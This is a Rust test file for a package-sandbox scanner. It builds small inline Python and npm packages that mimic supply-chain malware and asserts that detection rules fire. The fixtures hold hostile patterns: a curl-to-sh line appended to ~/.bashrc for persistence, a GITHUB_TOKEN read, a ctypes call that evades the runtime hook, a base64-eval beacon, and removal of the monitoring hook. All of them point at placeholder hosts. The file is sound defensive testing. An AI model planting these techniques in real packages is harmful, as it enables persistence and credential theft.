//! Behaviours beyond the seed fixtures, each with a small inline package:
//! persistence, environment secrets, a start-up `.pth`, and native code
//! that bypasses the runtime hook (only the system view sees it).

mod common;

use common::*;
use sluice_sandbox::{SandboxOptions, SandboxReport, run};

fn run_inline(name: &str, body: &str) -> SandboxReport {
    let dir = tempfile::tempdir().unwrap();
    let pkg = inline_sdist(dir.path(), name, body);
    let r = run(&pkg, &SandboxOptions::default()).unwrap();
    show(&r);
    r
}

fn rules(r: &SandboxReport) -> Vec<&str> {
    r.findings.iter().map(|f| f.rule.as_str()).collect()
}

#[test]
fn persistence_and_env_secrets() {
    if !available() {
        return;
    }
    let body = "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl -s http://x.example.test | sh\\n')\ntok = os.environ.get('GITHUB_TOKEN')\n";
    let r = run_inline("persists", body);
    // line numbers: 4 header lines + the guard (9 lines) + `if` line → body starts at 15
    let line_of_open = r
        .findings
        .iter()
        .find(|f| f.rule.as_str() == "DYN708")
        .and_then(|f| f.line)
        .expect("DYN708");
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule.as_str() == "DYN705" && f.line == Some(line_of_open + 2)),
        "{:?}",
        rules(&r)
    );
    assert_eq!(
        r.findings
            .iter()
            .find(|f| f.rule.as_str() == "DYN708")
            .unwrap()
            .file
            .as_deref(),
        Some("setup.py")
    );
}

#[test]
fn a_startup_pth_is_reported() {
    if !available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    std::fs::create_dir_all(src.join("pthdrop")).unwrap();
    std::fs::write(src.join("pthdrop/__init__.py"), "").unwrap();
    std::fs::write(src.join("pthdrop-init.pth"), "import os; os.getpid()\n").unwrap();
    std::fs::write(
        src.join("setup.py"),
        "from setuptools import setup\nsetup(name='pthdrop', version='0.1', packages=['pthdrop'], data_files=[('lib/python3.11/site-packages', ['pthdrop-init.pth'])])\n",
    )
    .unwrap();
    let pkg = dir.path().join("pthdrop-0.1.tar.gz");
    tar_gz(&src, "pthdrop-0.1", &pkg);
    let r = run(&pkg, &SandboxOptions::default()).unwrap();
    show(&r);
    let python_311 = r.phases.first().is_some_and(|p| p.status == "completed");
    if python_311 && r.findings.is_empty() {
        eprintln!("SKIP: data_files path did not match this interpreter's site-packages");
        return;
    }
    assert!(
        r.findings.iter().any(|f| f.rule.as_str() == "DYN708"
            && f.file.as_deref() == Some("pthdrop-init.pth")
            && f.line == Some(1)),
        "{:?}",
        r.findings
    );
}

#[test]
fn native_code_bypassing_the_hook_is_seen_from_outside() {
    if !available() {
        return;
    }
    let body = "import ctypes\nctypes.CDLL(None).system(b'curl -s -m 3 http://native.example.test/p -o /dev/null')\n";
    let r = run_inline("native", body);
    // the runtime saw only the library load …
    assert!(rules(&r).contains(&"DYN711"), "{:?}", rules(&r));
    // … the system view saw the process and the flow nobody explained
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule.as_str() == "DYN709" && f.message.contains("curl")),
        "{:?}",
        r.findings
    );
    assert!(
        r.network
            .iter()
            .any(|n| n.name.as_deref() == Some("native.example.test"))
    );
}

#[test]
fn node_eval_of_decoded_code_is_seen_with_its_source() {
    if !npm_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("package");
    std::fs::create_dir_all(&pkg).unwrap();
    std::fs::write(
        pkg.join("package.json"),
        r#"{"name":"evalish","version":"1.0.0","main":"index.js"}"#,
    )
    .unwrap();
    // inert outside the sandbox: the decoded code only looks up a name
    let payload = "require('dns').lookup('evalbeacon.example.test', () => {})";
    let b64 = {
        use std::io::Write;
        let mut out = Vec::new();
        let mut enc = base64_encoder(&mut out);
        enc.write_all(payload.as_bytes()).unwrap();
        drop(enc);
        String::from_utf8(out).unwrap()
    };
    std::fs::write(
        pkg.join("index.js"),
        format!("'use strict';\nconst p = '{b64}';\neval(Buffer.from(p, 'base64').toString());\nmodule.exports = {{}};\n"),
    )
    .unwrap();
    let tgz = dir.path().join("evalish-1.0.0.tgz");
    tar_gz(&pkg, "package", &tgz);
    let r = run(&tgz, &SandboxOptions::default()).unwrap();
    show(&r);
    let f = r
        .findings
        .iter()
        .find(|f| {
            f.rule.as_str() == "DYN707"
                && f.file.as_deref() == Some("index.js")
                && f.line == Some(3)
        })
        .unwrap_or_else(|| panic!("DYN707 at index.js:3 in {:?}", r.findings));
    assert!(
        f.excerpt
            .as_deref()
            .is_some_and(|e| e.contains("evalbeacon.example.test")),
        "{:?}",
        f.excerpt
    );
}

/// A tiny base64 writer (the tests avoid extra dependencies).
fn base64_encoder(out: &mut Vec<u8>) -> impl std::io::Write + '_ {
    struct W<'a>(&'a mut Vec<u8>, Vec<u8>);
    impl std::io::Write for W<'_> {
        fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
            self.1.extend_from_slice(b);
            Ok(b.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    impl Drop for W<'_> {
        fn drop(&mut self) {
            const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
            for c in self.1.chunks(3) {
                let n = (u32::from(c[0]) << 16)
                    | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
                    | u32::from(*c.get(2).unwrap_or(&0));
                for i in 0..4 {
                    if i <= c.len() {
                        self.0.push(A[((n >> (18 - 6 * i)) & 63) as usize]);
                    } else {
                        self.0.push(b'=');
                    }
                }
            }
        }
    }
    W(out, Vec::new())
}

#[test]
fn removing_the_hook_is_reported() {
    if !available() {
        return;
    }
    let body = "import site, glob\nfor d in site.getsitepackages():\n    for p in glob.glob(os.path.join(d, '_virtualenv*')):\n        os.remove(p)\n";
    let r = run_inline("unhook", body);
    assert!(
        r.findings.iter().any(|f| f.rule.as_str() == "DYN712"),
        "{:?}",
        r.findings
    );
}
